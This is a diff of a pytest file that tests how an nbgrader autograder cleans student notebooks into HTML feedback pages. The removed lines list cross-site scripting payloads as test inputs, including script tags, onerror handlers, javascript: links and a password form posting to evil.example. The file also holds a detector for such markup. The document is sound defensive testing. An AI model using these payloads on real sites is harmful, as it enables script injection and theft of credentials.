@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import functools
 import re
+import tomllib
 from itertools import pairwise
 
 import pytest
@@ -11,6 +12,7 @@ from bs4 import BeautifulSoup
 from conftest import NOTEBOOKS, ROOT, ends, read
 from nbconvert.exporters import HTMLExporter
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
+from submissions import ANSWERS, NAME
 from traitlets.config import Config
 
 from autograder.judge.diagnosis.diagnose import Diagnosis, Line
@@ -26,51 +28,17 @@ from autograder.nbgrader_plugin.marking.notices import FAILED, RESTARTED, SKIPPE
 from autograder.nbgrader_plugin.preprocessors import HideTests
 from autograder.nbgrader_plugin.release import released_notebook
 from autograder.nbgrader_plugin.release.student_version import CLAIMED
-from autograder.spec.course import exercises, question_or_exercise, questions
+from autograder.spec.course import question_or_exercise
 from autograder.spec.exercise import UNANSWERED
 
 PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
-ODD = [
-    "</div>",
-    "a </p> b",
-    "<div>\n\n*open*",
-    "<b>open",
-    "<!-- open",
-    "closed -->",
-    '<a title="open',
-    "<script>open",
-    "</script></body></html>",
-    "<table><tr><td>",
-    "</td></tr></table>",
-    "<![CDATA[ open",
-    "]]> <textarea>",
-    "</textarea>",
-    "<style>open </main>",
-    "</br> x </img>",
-    "",
-    " ",
-    "just *text* with `code` & an ampersand, &nbsp; &amp;amp; &lt;b&gt; &#39; &copy; é 中 \x0c",
-    "# A heading\n\n- a list\n- of two\n\n| a | b |\n|---|---|\n| $x < y$ | $$\\frac{a}{b}$$ |",
-    "<details><summary>More</summary>\n\nhidden\n</details>",
-    "![](picture.png) <img src=x> <img alt='' src=y> ![text](files/z.png)",
-    '<a href="files/notes.txt">notes</a>',
-    '<div class="jp-Notebook"><div class="jp-OutputArea-output">x</div></div>',
-    "<x-end></x-end> <x-piece></x-piece>",
-    "<br><br/><hr> a  <br>  b",
-    "<pre>\n\n  kept  \n</pre>   \n\n<p>text",
-    "```python\nfor x in y:\n    print('<b>')\n```",
-    "<!-- closed --> <!DOCTYPE html> <?php ?>",
-    "<p class='a  b' CLASS=c data-x=\"'\">x</p>",
-]
-
-
+_TEXTS = tomllib.loads((ROOT / "tests" / "hostile_texts.toml").read_text("utf-8"))
+EVIL, ODD, COSTLY = _TEXTS["evil"], _TEXTS["odd"], _TEXTS["costly"]
 SETTINGS = Config()  # as nbgrader_config.py sets them
 SETTINGS.FeedbackExporter.template_name = "feedback_page"
 SETTINGS.FeedbackExporter.extra_template_basedirs = [str(ROOT / "autograder" / "nbgrader_plugin" / "feedback")]
 SETTINGS.Exporter.default_preprocessors = []
 ABOUT = {"notebook": "n", "assignment": "05-attention", "student": "ada", "score": 1, "max_score": 2, "late_penalty": 0}
-
-
 NOTHING = released_notebook.Released()
 
 
@@ -101,42 +69,38 @@ def whole(cells):
 
 
 def text_of(markup):
-    return " ".join(BeautifulSoup(markup, "html.parser").get_text(" ").split())
+    return " ".join(BeautifulSoup(str(markup), "html.parser").get_text(" ").split()).replace(" .", ".")
+
+
+def soup_of(notebook, **about):
+    return BeautifulSoup(page(notebook, HANDED_OUT, **about), "html.parser")
 
 
 def everywhere(text):
-    """A notebook that shows a text in every way there is, among the cells of others."""
-    outputs = [
-        new_output("display_data", data={"text/html": text, "text/plain": text}),
+    """Cells that show a text in every way there is, and cells of others behind them."""
+    kinds = ("text/html", "text/markdown", "text/latex", "image/svg+xml")
+    outputs = [new_output("display_data", data={kind: text, "text/plain": text}) for kind in kinds]
+    outputs += [
         new_output("display_data", data={"text/html": text}, metadata={"text/html": {"isolated": True}}),
-        new_output("display_data", data={"text/markdown": text}),
-        new_output("display_data", data={"text/latex": text}),
-        new_output("display_data", data={"image/svg+xml": text}),
         new_output("display_data", data={"image/png": PIXEL}, metadata={"image/png": {"alt": text}}),
         new_output("stream", text=text + "\n\x1b[31mred\x1b[0m"),
         new_output("error", ename=text, evalue=text, traceback=[text]),
         new_output("execute_result", data={"text/plain": text}, execution_count=1),
     ]
     graded = {"grade_id": "a", "grade": False, "solution": True, "comment": text}
-    cells = [new_markdown_cell("before *it*"), new_code_cell("x = 1  # before\n"), new_markdown_cell(text)]
-    cells += [
-        new_code_cell(text, outputs=outputs),
-        new_code_cell(text, metadata={"nbgrader": graded}),
-        new_raw_cell(text),
+    return [
+        *(new_markdown_cell(text), new_raw_cell(text), new_code_cell(text, outputs=outputs)),
+        *(new_code_cell(text, metadata={"nbgrader": graded}), new_code_cell("y = 2 < 3\n")),
+        new_markdown_cell("after <b>it</b>"),
     ]
-    return whole([*cells, new_markdown_cell("after <b>it</b>"), new_code_cell("y = 2 < 3\n")])
 
 
-# --- the top ----------------------------------------------------------------------------------------------------------
-
-NAME = "05-attention"
 SLIP = "The largest score is not subtracted first: `exp` overflows."
 
 
 def marked(verdicts, written="", comment=None):
     """A notebook of 05, as marking leaves it: all right but for these verdicts."""
     notebook = read("course", NAME)
-    answers = {e.name: e.source for e in exercises(NAME)} | {q.name: f'{q.name} = "{q.key}"' for q in questions(NAME)}
     for cell in notebook.cells:
         graded = cell.metadata.get("nbgrader", {})
         name = grade_id(cell)
@@ -147,7 +111,7 @@ def marked(verdicts, written="", comment=None):
             elif name in verdicts and verdicts[name].remark == UNANSWERED:
                 pass
             else:
-                cell.source = answers[name]
+                cell.source = ANSWERS[name]
             graded["comment"] = comment
         elif graded.get("grade"):
             name = name.removeprefix("test_")
@@ -179,9 +143,7 @@ MISTAKEN = {
 @pytest.fixture(scope="module")
 def mistaken():
     notebook = marked(MISTAKEN, written="Because $\\sqrt{d_k}$.")
-    return BeautifulSoup(
-        page(notebook, HANDED_OUT, student_name="Ada Lovelace", score=17.5, max_score=31), "html.parser"
-    )
+    return soup_of(notebook, student_name="Ada Lovelace", score=17.5, max_score=31)
 
 
 def rows(soup):
@@ -210,13 +172,8 @@ def test_a_row_gives_the_named_mistake_in_its_own_words_and_the_section_to_rerea
     assert mistaken.find(id=row.th.a["href"][1:]).select_one("pre.code").get_text().startswith("def softmax")
 
 
-def test_without_a_named_mistake_the_first_line_that_failed_is_said(mistaken):
-    assert "values: 24 of 24 differ, x." in text_of(str(rows(mistaken)["Exercise: simple attention"])).replace(
-        " .", "."
-    )
-
-
-def test_a_wrong_letter_shows_its_own_explanation(mistaken):
+def test_without_a_named_mistake_a_row_says_what_failed_first(mistaken):
+    assert "values: 24 of 24 differ, x." in text_of(rows(mistaken)["Exercise: simple attention"])
     [line] = MISTAKEN["q5_2"].lines
     assert line.message.replace("`", "")[:40] in rows(mistaken)["Question 5.2"].get_text()
 
@@ -238,8 +195,7 @@ def test_what_to_do_next_begins_with_the_first_mistake_and_names_what_is_not_ans
 
 
 def test_whoever_has_all_right_learns_what_comes_next():
-    notebook = marked({}, written="Because.")
-    assert "Next in the course: 06-masking" in text_of(page(notebook, HANDED_OUT)).replace(" .", ".")
+    assert "Next in the course: 06-masking" in text_of(soup_of(marked({}, written="Because.")))
 
 
 def test_lines_that_were_not_judged_and_fields_that_come_later_are_tolerated():
@@ -250,8 +206,7 @@ def test_lines_that_were_not_judged_and_fields_that_come_later_are_tolerated():
     [kind] = [kind for kind in data if "autograder" in kind]
     data[kind] |= {"reckoning": "It costs half a point.", "later": 1}
     data[kind]["lines"].insert(0, {"title": "x", "weight": 1.0, "passed": False, "judged": False, "message": "no"})
-    soup = BeautifulSoup(page(notebook, HANDED_OUT), "html.parser")
-    assert "values: They differ." in text_of(str(rows(soup)["Exercise: softmax"]))
+    assert "values: They differ." in text_of(rows(soup_of(notebook))["Exercise: softmax"])
 
 
 def test_what_was_not_run_is_said_once_with_its_reason():
@@ -261,9 +216,8 @@ def test_what_was_not_run_is_said_once_with_its_reason():
     [answer] = [cell for cell in notebook.cells if grade_id(cell) == "softmax"]
     answer.outputs = [stopped]
     notebook.cells.append(new_code_cell("x", outputs=[failed]))
-    made = page(notebook, HANDED_OUT)
-    assert SKIPPED not in made
-    soup = BeautifulSoup(made, "html.parser")
+    soup = soup_of(notebook)
+    assert PASSED_OVER not in soup.get_text()
     first, second, own = soup.select("[aria-labelledby=not-run] li")
     assert first.a["href"] == "#answer-softmax"
     assert RESTARTED in first.get_text()
@@ -274,28 +228,27 @@ def test_what_was_not_run_is_said_once_with_its_reason():
 
 def test_a_notice_on_the_whole_submission_stands_at_the_top():
     notebook = marked({})
-    notice = new_markdown_cell(
-        "### About this submission\n\n- The notebook was named “x.ipynb”.", metadata={KEY: "notice"}
-    )
-    notebook.cells.insert(0, notice)
-    soup = BeautifulSoup(page(notebook, HANDED_OUT), "html.parser")
+    notice = "### About this submission\n\n- The notebook was named “x.ipynb”."
+    notebook.cells.insert(0, new_markdown_cell(notice, metadata={KEY: "notice"}))
+    soup = soup_of(notebook)
     assert "“x.ipynb”" in soup.select_one("[aria-labelledby=mark]").get_text()
     assert "“x.ipynb”" not in soup.select_one(".notebook").get_text()
 
 
 def test_whoever_handed_in_nothing_readable_is_told_what_to_do_and_nothing_else():
     notebook = marked({}, written="Because.")
-    notice = new_markdown_cell(f"### {FAILED}\n\n- The file is empty.", metadata={KEY: "notice"})
-    notebook.cells.insert(0, notice)
-    soup = BeautifulSoup(page(notebook, HANDED_OUT), "html.parser")
+    notebook.cells.insert(0, new_markdown_cell(f"### {FAILED}\n\n- The file is empty.", metadata={KEY: "notice"}))
+    soup = soup_of(notebook)
     assert [heading.get_text() for heading in soup.select("h2, h3")][1:] == [FAILED, "What to do next"]
     assert not soup.select("table, pre")
 
 
-def test_a_comment_stands_beside_its_answer_but_not_nbgraders_own():
-    said = page(marked({}, comment="Well done, *Ada*."), HANDED_OUT)
+def test_a_comment_and_a_late_penalty_are_said_but_not_nbgraders_own_comment():
+    said = page(marked({}, comment="Well done, *Ada*."), HANDED_OUT, late_penalty=0.75)
     assert "Well done, <em>Ada</em>." in said
-    assert "Your instructor says" not in page(marked({}, comment="No response."), HANDED_OUT)
+    assert "Handed in late" in said
+    said = page(marked({}, comment="No response."), HANDED_OUT)
+    assert not [words for words in ("Your instructor says", "Handed in late") if words in said]
 
 
 @pytest.mark.parametrize(
@@ -312,15 +265,11 @@ def test_what_is_said_of_a_mistake_has_its_code_and_its_emphasis(said, written):
     assert prose(said) == written
 
 
-def test_a_late_penalty_has_a_row():
-    assert "Handed in late" in page(marked({}), HANDED_OUT, late_penalty=0.75)
-    assert "Handed in late" not in page(marked({}), HANDED_OUT)
-
-
 @pytest.mark.parametrize("name", NOTEBOOKS)
 def test_every_answer_of_the_course_has_a_title_and_a_section_that_can_be_linked(name):
     handed_out = released_notebook.read(ROOT / "course" / name / f"{name}.ipynb")
-    made = page(read("course", name), handed_out, assignment=name)
+    texts = [cell for cell in read("course", name).cells if cell.cell_type == "markdown"]
+    made = page(whole(texts), handed_out, assignment=name)
     found = {heading.get_text(): heading.get("id") for heading in BeautifulSoup(made, "html.parser").select("h3")}
     assert re.match(r"\d+\. .", handed_out.title)
     assert handed_out.spots
@@ -328,9 +277,6 @@ def test_every_answer_of_the_course_has_a_title_and_a_section_that_can_be_linked
         assert spot.title.startswith(("Exercise: ", "Question ", "Written answer: ")), spot
         section = BeautifulSoup(str(sections.in_line(spot.section)), "html.parser").get_text()
         assert found[section], spot
-
-
-# --- the notebook -----------------------------------------------------------------------------------------------------
 
 
 def test_every_link_within_a_page_leads_somewhere(mistaken):
@@ -354,19 +300,16 @@ def test_a_course_s_text_that_a_student_changed_is_open():
     notebook = marked({})
     [cell] = [cell for cell in notebook.cells if cell.source.startswith("## 2.")]
     cell.source += "\n\nMy note."
-    soup = BeautifulSoup(page(notebook, HANDED_OUT), "html.parser")
-    [note] = soup.find_all(string=re.compile("My note"))
+    [note] = soup_of(notebook).find_all(string=re.compile("My note"))
     assert note.find_parent("details") is None
     assert "Your own text" in note.find_parent(class_="cell").get_text()
 
 
 def test_headings_are_in_order_whatever_a_student_writes():
-    cells = [
-        new_markdown_cell("##### deep\n\n# high\n\n<h1>raw</h1>\n\n<h6>deep</h6>"),
-        new_markdown_cell("</h3><h1>open"),
-    ]
+    sources = "##### deep\n\n# high\n\n<h1>raw</h1>\n\n<h6>deep</h6>", "</h3><h1>open"
     output = new_output("display_data", data={"text/html": "<h1>mine</h1><h5>x</h5>"})
-    made = BeautifulSoup(page(whole([*cells, new_code_cell("1", outputs=[output])])), "html.parser")
+    cells = [*map(new_markdown_cell, sources), new_code_cell("1", outputs=[output])]
+    made = BeautifulSoup(page(whole(cells)), "html.parser")
     levels = [int(heading.name[1]) for heading in made.select("h1, h2, h3, h4, h5, h6")]
     assert levels[0] == 1
     assert levels.count(1) == 1
@@ -384,19 +327,12 @@ def test_a_page_says_its_language_and_has_its_landmarks_once(mistaken):
 def test_words_stand_out_from_their_ground(scheme):
     """4.5 to 1 (WCAG AA), for all colours that words have, on both grounds."""
     style = (ROOT / "autograder/nbgrader_plugin/feedback/feedback_page/style.css").read_text()
-    blocks = re.findall(r":root \{(.*?)\}", style, re.DOTALL)[:2]
-    found = dict(re.findall(r"--([a-z]+): (#[0-9a-f]{6})", blocks[scheme == "dark"]))
-    words = set(found) - {"paper", "panel", "line", "bar"}
+    block = re.findall(r":root \{(.*?)\}", style, re.DOTALL)[scheme == "dark"]
+    bright = {name: 0.05 + _luminance(colour) for name, colour in re.findall(r"--([a-z]+): (#[0-9a-f]{6})", block)}
+    words = bright.keys() - {"paper", "panel", "line", "bar"}
     assert len(words) == 10
-    weak = {
-        (word, ground) for word in words for ground in ("paper", "panel") if _contrast(found[word], found[ground]) < 4.5
-    }
-    assert not weak
-
-
-def _contrast(one, other):
-    bright, dark = sorted((_luminance(one), _luminance(other)), reverse=True)
-    return (bright + 0.05) / (dark + 0.05)
+    pairs = [(word, ground) for word in words for ground in ("paper", "panel")]
+    assert not [pair for pair in pairs if max(map(bright.get, pair)) / min(map(bright.get, pair)) < 4.5]
 
 
 def _luminance(colour):
@@ -416,9 +352,6 @@ def test_descriptions_of_pictures_reach_the_page():
     assert second["alt"] == rendering.NO_WORDS
 
 
-# --- formulas ---------------------------------------------------------------------------------------------------------
-
-
 @pytest.mark.parametrize("name", NOTEBOOKS)
 def test_every_formula_of_the_course_is_set(name, monkeypatch):
     found = []
@@ -435,36 +368,18 @@ def test_every_formula_of_the_course_is_set(name, monkeypatch):
         assert "\\" not in BeautifulSoup(markup, "html.parser").get_text(), markup
 
 
-@pytest.mark.parametrize(
-    "latex",
-    [
-        r"\href{javascript:alert(1)}{x}",
-        r"\text{<script>alert(1)</script>}",
-        r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
-        r"\style{position:fixed}{x}",
-        r"\class{panel}{x}",
-        r"\color{red;position:fixed}{x}",
-        r"\hspace{1em;position:fixed} x",
-        r"</math><img src=x onerror=alert(1)>",
-        "{" * 300,
-        r"\frac" * 500,
-        r"\left(" * 300,
-        "_{" * 200 + "}" * 200,
-        "x" * 100_000,
-        "",
-    ],
-)
-def test_a_formula_runs_nothing_and_costs_nothing(latex):
+def test_a_formula_runs_nothing_and_costs_nothing():
+    texts = [r"\text{<script>alert(1)</script>}", r"\style{position:fixed}{x}", r"\color{red;position:fixed}{x}"]
+    texts += [r"\href{javascript:alert(1)}{x}", r"\class{panel}{x}", r"\hspace{1em;position:fixed} x"]
+    texts += [r"</math><img src=x onerror=alert(1)>", "{" * 300, r"\frac" * 500, r"\left(" * 300, "x" * 100_000, ""]
+    assert mathml(r"\nosuch{x}") == r"<code>\nosuch{x}</code>"  # shown as it was written
     with ends():
-        soup = BeautifulSoup(mathml(latex), "html.parser")
+        soup = BeautifulSoup("".join(map(mathml, [*texts, "_{" * 200 + "}" * 200])), "html.parser")
     for element in soup.find_all(True):
         assert element.name in TAGS | {"code"}
-        assert not {"href", "class", "style", "src"} & element.attrs.keys()
-        assert not [name for name in element.attrs if name.startswith("on")]
-
-
-def test_a_formula_that_cannot_be_set_is_shown_as_it_was_written():
-    assert mathml(r"\nosuch{x}") == r"<code>\nosuch{x}</code>"
+        assert not [
+            name for name in element.attrs if name.startswith("on") or name in ("href", "class", "style", "src")
+        ]
 
 
 def test_a_formula_in_an_attribute_stays_text():
@@ -473,39 +388,6 @@ def test_a_formula_in_an_attribute_stays_text():
     [picture] = BeautifulSoup(made, "html.parser").select("img")
     assert set(picture.attrs) == {"src", "alt"}
     assert "onerror" in picture["alt"]
-
-
-# --- nothing runs -----------------------------------------------------------------------------------------------------
-
-EVIL = {
-    "a script": "<script>alert(1)</script>",
-    "a handler": "<img src=x onerror=alert(1)>",
-    "a handler on a detail": "<details open ontoggle=alert(1)>x</details>",
-    "a link that runs": "<a href='javascript:alert(1)'>x</a>",
-    "a link that hides what it runs": "<a href=' java&#10;script:alert(1)'>x</a>",
-    "a link in Markdown": "[x](javascript:alert(1))",
-    "a link to a page of data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "an object": "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
-    "a form": "<form action='https://evil.example/'><input type=password name=p><button>ok</button></form>",
-    "a style sheet": "<style>body { display: none }</style><link rel=stylesheet href='https://evil.example/x.css'>",
-    "a style that loads": "<p style='background: url(https://evil.example/x)'>x</p>",
-    "a style that covers": "<div style='position: fixed; top: 0; left: 0; width: 100%; z-index: 9'>28 of 28</div>",
-    "a class of the page": "<div class='panel panel-default nbgrader_cell'>28 of 28</div>",
-    "a name of the page": "<a name='top' id='notebook'>x</a>",
-    "a redirection": "<meta http-equiv=refresh content='0; url=https://evil.example/'><base href='https://evil.example/'>",
-    "a picture from elsewhere": "<img src='https://evil.example/x.png'>",
-    "a picture from elsewhere in Markdown": "![](https://evil.example/x.png)",
-    "a picture from elsewhere, by its host": "<img src='//evil.example/x.png'>",
-    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    "MathML": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
-    "a template": "<template><script>alert(1)</script></template>",
-    "no script": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "MathJax's settings": "<script type='text/x-mathjax-config'>alert(1)</script>",
-    "a comment": "<!--><img src=x onerror=alert(1)>-->",
-    "a marquee": "<marquee onstart=alert(1)>x</marquee><video><source onerror=alert(1)></video>",
-    "an attribute that is none": "<p a='b' \"'onmouseover=alert(1) x>x</p>",
-}
 
 
 empty_page = functools.cache(lambda: page(whole([])))
@@ -521,67 +403,43 @@ def shown(cells):
 
 def dangers(markup):
     """Elements and attributes, of what a browser would make of this, that are not on a list of our own."""
-    found = []
-    for element in BeautifulSoup(markup, "html.parser").find_all(True):
-        if element.name in ("script", "style", "iframe", "object", "embed", "form", "svg", "base", "link", "meta"):
-            found.append(element.name)
-        for name, value in element.attrs.items():
-            text = " ".join(value) if isinstance(value, list) else value
-            if name.startswith("on") or "javascript" in text or "evil.example" in text or "position" in text:
-                found.append(f"{name}={text}")
-            if name == "src" and not text.startswith("data:image/") and ":" in text:
-                found.append(text)
+    soup = BeautifulSoup(markup, "html.parser")
+    found = soup.select("script, style, iframe, object, embed, form, svg, base, link, meta")
+    for name, value in [pair for element in soup.find_all(True) for pair in element.attrs.items() if pair[0] != "alt"]:
+        text = " ".join(value) if isinstance(value, list) else value
+        loads = name == "src" and not text.startswith("data:image/") and ":" in text
+        if loads or name.startswith("on") or re.search(r"javascript|evil\.example|position", text):
+            found.append(f"{name}={text}")
     return found
 
 
-@pytest.mark.parametrize("text", EVIL.values(), ids=EVIL)
-def test_nothing_of_a_students_runs_or_loads_anything(text):
-    output = new_output("display_data", data={"text/html": text, "text/plain": "x"})
-    markdown = new_output("display_data", data={"text/markdown": text, "text/plain": "x"})
-    comment = {"nbgrader": {"grade_id": "a", "solution": True, "comment": text}}
-    for cell in (
-        new_markdown_cell(text),
-        new_code_cell("1", outputs=[output]),
-        new_code_cell("1", outputs=[markdown]),
-        new_code_cell(text, metadata=comment),
-    ):
-        markup = shown([cell])
-        assert dangers(markup) == []
+def test_nothing_of_a_students_runs_or_loads_anything():
+    for text in EVIL:
+        markup = shown([cell for cell in everywhere(text) if cell.cell_type != "raw"])
+        assert dangers(markup) == [], text
         assert 'class="panel' not in markup
         assert markup.count('id="notebook"') == 1
         assert 'name="top"' not in markup
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
-        {"application/javascript": "alert(1)"},
-        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
-        {"image/png": '" onerror="alert(1)'},
-        {"text/latex": "$</script><script>alert(1)</script>$"},
-        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}},
-        {"text/vnd.mermaid": "</pre><script>alert(1)</script>"},
-        {"application/vnd.plotly.v1+json": {"data": "<script>alert(1)</script>"}},
-        {"text/html": ["<script>", "alert(1)", "</script>"]},
-    ],
-)
-def test_no_kind_of_output_runs(data):
-    output = new_output("display_data", metadata={"image/png": {"width": "1 onerror=alert(1)"}, "isolated": True})
-    output.data = data
-    output.metadata["text/html"] = {"isolated": True}
-    assert dangers(shown([new_code_cell("1", outputs=[output])])) == []
+def test_no_kind_of_output_runs():
+    for data in _TEXTS["outputs"]:
+        about = {"image/png": {"width": "1 onerror=alert(1)"}, "isolated": True, "text/html": {"isolated": True}}
+        output = new_output("display_data", metadata=about)
+        output.data = data
+        assert dangers(shown([new_code_cell("1", outputs=[output])])) == [], data
 
 
-@pytest.mark.parametrize("text", ODD)
-def test_what_a_student_opens_or_closes_stays_in_its_cell(text):
+def test_what_a_student_opens_or_closes_stays_in_its_cell():
     """The page around it is the same, element by element."""
-    made = BeautifulSoup(page(everywhere(text)), "html.parser")
+    made = BeautifulSoup(page(whole([cell for text in ODD for cell in everywhere(text)])), "html.parser")
     assert [element.name for element in made.body.find_all(True, recursive=False)] == ["header", "main", "footer"]
     cells = made.select_one(".notebook").find_all(class_="cell", recursive=False)
-    assert len(cells) == 6 + bool(text.strip()) * 2
-    assert cells[-1].select_one("pre.code").get_text() == "y = 2 < 3"
-    assert cells[-2].em is None
-    assert cells[-2].b.get_text() == "it"
+    assert len(cells) == sum(4 + bool(text.strip()) * 2 for text in ODD)
+    after = [place for place, cell in enumerate(cells) if cell.b and cell.b.get_text() == "it"]
+    assert len(after) == len(ODD)
+    assert all(cells[place - 1].select_one("pre.code").get_text() == "y = 2 < 3" for place in after)
+    assert not any(cells[place].em for place in after)
 
 
 def test_what_honest_students_show_is_there():
@@ -613,32 +471,18 @@ def test_a_page_has_no_script_and_loads_nothing():
     assert "script-src" not in POLICY
     assert "default-src 'none'" in POLICY
     soup = BeautifulSoup(made, "html.parser")
-    assert not soup.select("script, link, iframe, object, embed")
-    assert not [picture["src"][:40] for picture in soup.select("img") if not picture["src"].startswith("data:")]
-    assert "url(" not in soup.style.get_text()
-    assert "@import" not in soup.style.get_text()
+    assert not soup.select("script, link, iframe, object, embed, img:not([src^='data:'])")
+    assert not [word for word in ("url(", "@import") if word in soup.style.get_text()]
 
 
 def test_formgrader_cleans_text_cells_too():
     settings = Config()
     settings.HTMLExporter.filters = {"markdown2html": "autograder.nbgrader_plugin.formgrader.server.markdown2html"}
-    for text in EVIL.values():
-        made = HTMLExporter(config=settings).from_notebook_node(whole([new_markdown_cell(text)]))[0]
-        body = made[made.index("<main") : made.index("</main>")]
-        assert dangers(body) == []
     code = "```python\nfor x in y:\n    pass\n```"
-    made = HTMLExporter(config=settings).from_notebook_node(whole([new_markdown_cell(code)]))[0]
+    cells = [new_markdown_cell(text) for text in (*EVIL, code)]
+    made = HTMLExporter(config=settings).from_notebook_node(whole(cells))[0]
+    assert dangers(made[made.index("<main") : made.index("</main>")]) == []
     assert '<span class="k">for</span>' in made
-
-
-@pytest.mark.parametrize("text", ["", "a\ud800b", "a\x00b", "\x85", "\x9b31m"])
-def test_odd_characters_leave_nobody_without_a_page(text):
-    outputs = [
-        new_output("stream", text=text),
-        new_output("display_data", data={"text/html": text, "text/latex": text}),
-    ]
-    cell = new_code_cell("1", outputs=[sanitised_output(output) for output in outputs])
-    assert shown([cell]).encode()
 
 
 def sanitised_output(output):
@@ -650,50 +494,22 @@ def test_pictures_attached_to_a_cell_are_its_own():
     twins = [new_markdown_cell("![p](attachment:p.png)") for _ in range(2)]
     for twin, data in zip(twins, (PIXEL, PIXEL[::-1]), strict=True):
         twin.attachments = {"p.png": {"image/png": data}}
-    made = page(whole(twins))
+    made = shown([*twins, new_markdown_cell("![none](attachment:gone.png)")])
     assert PIXEL in made
     assert PIXEL[::-1] in made
+    assert 'alt="none"' in made
 
 
-def test_a_picture_that_is_not_attached_leaves_nobody_without_a_page():
-    assert 'alt="p"' in shown([new_markdown_cell("![p](attachment:gone.png)")])
-
-
-def test_what_nobody_reads_in_feedback_is_left_out():
+def test_the_students_page_leaves_out_what_nobody_reads():
     notebook = marked(MISTAKEN)
     made = page(notebook, HANDED_OUT)
     for words in ("look_around", CLAIMED.strip()):
         assert any(words in cell.source for cell in notebook.cells)
         assert words not in made
-
-
-def test_the_tests_that_came_with_the_notebook_are_shown_where_marks_are_missing():
-    made = page(marked(MISTAKEN), HANDED_OUT)
-    right, wrong = "Test of scaled_dot_product_attention", "Test of softmax"
-    assert right not in made
-    assert wrong in made
-
-
-def test_the_same_notebook_gives_the_same_page():
-    assert page(marked(MISTAKEN), HANDED_OUT) == page(marked(MISTAKEN), HANDED_OUT)
-
-
-def test_a_page_has_less_than_250_kilobytes():
-    assert len(page(marked(MISTAKEN), HANDED_OUT)) < 250_000
-
-
-COSTLY = {
-    "environments": "\\begin{a}",
-    "formulas": "$\\frac{a}{b}$ ",
-    "nested divisions": "<div>",
-    "brackets": "[",
-    "links": "[a](",
-    "emphasis": "***a",
-    "tables": "a|b\n-|-\n",
-    "headings": "=\n",
-    "quotations": "> ",
-    "lists": "- ",
-}
+    assert "Test of scaled_dot_product_attention" not in made
+    assert "Test of softmax" in made, "tests are shown where marks are missing"
+    assert len(made) < 250_000
+    assert page(marked(MISTAKEN), HANDED_OUT) == made
 
 
 @pytest.mark.slow
